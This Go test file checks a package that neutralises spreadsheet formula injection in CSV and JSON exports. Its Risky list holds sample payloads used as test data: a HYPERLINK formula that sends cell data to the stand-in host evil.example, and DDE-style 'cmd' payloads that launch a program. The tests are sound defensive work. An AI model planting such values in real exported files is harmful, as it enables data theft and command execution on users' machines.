package inert_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"slices"
	"strings"
	"testing"

	"github.com/bulkdesk/bulkdesk/app/inert"
)

// Risky are values a spreadsheet program runs as formulas, or that begin
// like one: every writer's test feeds them.
var Risky = []string{
	`=HYPERLINK("http://evil.example/?x="&A2,"Click")`,
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"-2+3+cmd|' /C calc'!A0",
	"+1",
	"-",
	"\t=1+1",
	"\r=1+1",
	"＝1+1",
	"＋1",
	"－2",
	"＠SUM(1)",
}

func TestFormulaAndNumber(t *testing.T) {
	for _, s := range Risky {
		if !inert.Formula(s) {
			t.Errorf("Formula(%q) is false", s)
		}
	}
	for _, s := range []string{"-5", "-12.50", "1050", "1.2345678901234568E+18", "-1e-5", ".5", "5.", "0", "Salary", "", "1+1", " =1", "'=1", "a-b"} {
		if inert.Formula(s) {
			t.Errorf("Formula(%q) is true", s)
		}
	}
	for s, want := range map[string]bool{"-5": true, "1E+20": true, "+5": false, "1,000": false, " 1": false, "1 ": false, "-": false, ".": false, "e5": false, "1e": false, "1e+": false, "INF": false, "NaN": false, "0x10": false, "--1": false, "-.5": true} {
		if got := inert.Number(s); got != want {
			t.Errorf("Number(%q) = %v", s, got)
		}
	}
}

func TestTextAndStripRoundTrip(t *testing.T) {
	for _, s := range append(slices.Clone(Risky), "-5", "Salary", "'twas", "") {
		got := inert.Text(s)
		if inert.Formula(s) != (got == "'"+s) {
			t.Errorf("Text(%q) = %q", s, got)
		}
		if back := inert.Strip(got); back != s {
			t.Errorf("Strip(Text(%q)) = %q", s, back)
		}
	}
	if got := inert.Strip("'-5"); got != "-5" {
		t.Errorf("an apostrophe another program put before -5 stays: %q", got)
	}
}

func TestCSVWriterQuotesEscapedFields(t *testing.T) {
	var buf bytes.Buffer
	w := inert.NewCSVWriter(&buf)
	w.Write([]string{"=1+1", `="a",b`, "-5", "plain", "a,b", " lead", `\.`, ""})
	w.Write(nil)
	w.Write([]string{"＠x"})
	if err := w.Error(); err != nil {
		t.Fatal(err)
	}
	want := "\"'=1+1\",\"'=\"\"a\"\",b\",-5,plain,\"a,b\",\" lead\",\"\\.\",\n\n\"'＠x\"\n"
	if buf.String() != want {
		t.Errorf("csv:\n%q\nwant\n%q", buf.String(), want)
	}
	// encoding/csv reads it back, apostrophes and all.
	r := csv.NewReader(bytes.NewReader(buf.Bytes()))
	r.FieldsPerRecord = -1
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if recs[0][1] != `'="a",b` || recs[0][2] != "-5" || recs[1][0] != "'＠x" {
		t.Errorf("read back %q", recs)
	}
}

func TestJSONEscapesWhatCouldStartACell(t *testing.T) {
	v := map[string]any{"a": Risky, "date": "2024-01-02T10:00:00Z", "id": "ab-12", "list": "x,=1+1", "n": -5, "q": `"=1`}
	data, err := json.MarshalIndent(v, "", "  ")
	if err != nil {
		t.Fatal(err)
	}
	out := inert.JSON(data)
	var back map[string]any
	if err := json.Unmarshal(out, &back); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	want, _ := json.Marshal(v)
	if got, _ := json.Marshal(back); !bytes.Equal(got, want) {
		t.Errorf("the values changed:\n%s\nwant\n%s", got, want)
	}
	// A formula character is left only after a letter or a digit.
	for i, r := range string(out) {
		if strings.ContainsRune("=+-@＝＋－＠", r) && i > 0 && !isAlnum(out[i-1]) && !(r == '-' && string(out[i-2:i]) == ": ") {
			t.Errorf("%q at %d after %q\n%s", r, i, out[i-1], out)
		}
	}
	for _, kept := range []string{`"2024-01-02T10:00:00Z"`, `"ab-12"`, `"n": -5`} {
		if !bytes.Contains(out, []byte(kept)) {
			t.Errorf("%s was changed\n%s", kept, out)
		}
	}
	if plain := []byte(`{"a":"b"}`); &inert.JSON(plain)[0] != &plain[0] {
		t.Error("JSON with nothing to escape is copied")
	}
}

func isAlnum(c byte) bool {
	return c >= '0' && c <= '9' || c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z'
}
